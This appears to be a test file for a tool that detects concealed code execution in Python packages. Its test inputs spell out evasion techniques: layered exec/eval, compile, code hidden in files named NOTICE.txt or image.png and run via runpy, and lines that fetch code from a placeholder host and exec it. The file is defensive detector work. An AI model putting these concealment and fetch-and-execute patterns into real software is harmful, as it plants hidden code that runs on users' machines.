import { expect, test } from "vitest";
import { effectsOf, evaluated } from "./evaluate.testing.ts";

test.each([
  ["exec", "exec(\"import os\\nos.system('a')\")"],
  ["eval", "eval(\"__import__('os').system('a')\")"],
  ["compile", "exec(compile(\"import os\\nos.system('a')\", 'x', 'exec'))"],
  ["layers", "exec(\"exec('import os; os.system(\\\\'a\\\\')')\")"],
  ["names that stay", "exec('import os')\nos.system('a')"],
  ["a docstring", '"""import os; os.system(\'a\')"""\nexec(__doc__)'],
  ["python -c", `import os\nos.system("python -c \\"import os; os.system('a')\\"")`],
  [
    "python -c in a list",
    "import subprocess, sys\nsubprocess.run([sys.executable, '-c', \"import os; os.system('a')\"])",
  ],
  ["code on the standard input", "import subprocess\nsubprocess.run(['python'], input=\"import os; os.system('a')\")"],
  [
    "a function made of code",
    "import types\ntypes.FunctionType(compile(\"import os; os.system('a')\", '', 'exec'), {})()",
  ],
])("%s", async (_, source) => {
  const effects = await effectsOf(source);
  expect(effects).toContain("import process.spawn os.system a");
});

test.each([
  ["exec('x = 1')", ["import exec.constant exec x = 1"]],
  ["eval('1 + 1')", []],
  ["exec(x)", ["import exec.dynamic exec null"]],
  ["exec(''.join(['x', ' ', '=', '1', '+', '2', '-', '3']))", ["import exec.computed exec x =1+2-3"]],
  [
    "import requests\nexec(requests.get('http://h.test/p').text)",
    ["import network.request requests.get http://h.test/p", "import exec.remote exec {requests.get().text}"],
  ],
  [
    "import urllib.request\nexec(urllib.request.urlopen('http://h.test').read().decode())",
    [
      "import network.request urllib.request.urlopen http://h.test",
      "import exec.remote exec {urllib.request.urlopen().read().decode()}",
    ],
  ],
])("%s is told apart", async (source, effects) => {
  expect(await effectsOf(source)).toEqual(effects);
});

test("code is read from files of the archive, whatever they are called", async () => {
  const { effects } = await evaluated({
    "m.py": "from pathlib import Path\nexec(Path(__file__).with_name('NOTICE.txt').read_text())\n",
    "NOTICE.txt": "import os\nos.system('a')\n",
  });
  expect(effects.map(({ capability, argument, layers }) => [capability, argument?.slice(0, 9), layers])).toEqual([
    ["exec.local-file", "import os", ["open"]],
    ["process.spawn", "a", ["open", "exec"]],
  ]);
});

test.each([
  ["runpy", "import runpy\nrunpy.run_path('image.png')\n"],
  [
    "SourceFileLoader",
    "from importlib.machinery import SourceFileLoader\nSourceFileLoader('x', 'image.png').load_module()\n",
  ],
  ["a command", "import subprocess, sys\nsubprocess.call([sys.executable, 'image.png'])\n"],
])("%s runs any file", async (_, source) => {
  const { effects } = await evaluated({ "setup.py": source, "image.png": "import os\nos.system('a')\n" });
  expect(effects.map(({ callee, path, argument }) => `${callee} ${path} ${argument}`)).toContain(
    "os.system image.png a",
  );
});

test("of one place as many texts are followed as memory can hold, and that is said", async () => {
  const source = "for i in range(700):\n    exec(f'def f{i}(): pass')\nexec(\"import os\\nos.system('a')\")";
  const { effects, undecided } = await evaluated({ "m.py": source });

  expect(undecided).toMatchObject([
    { line: 2, what: "budget", why: "More than 500 texts are put together here and run." },
  ]);
  expect(effects.map(({ capability }) => capability)).toContain("process.spawn");
});
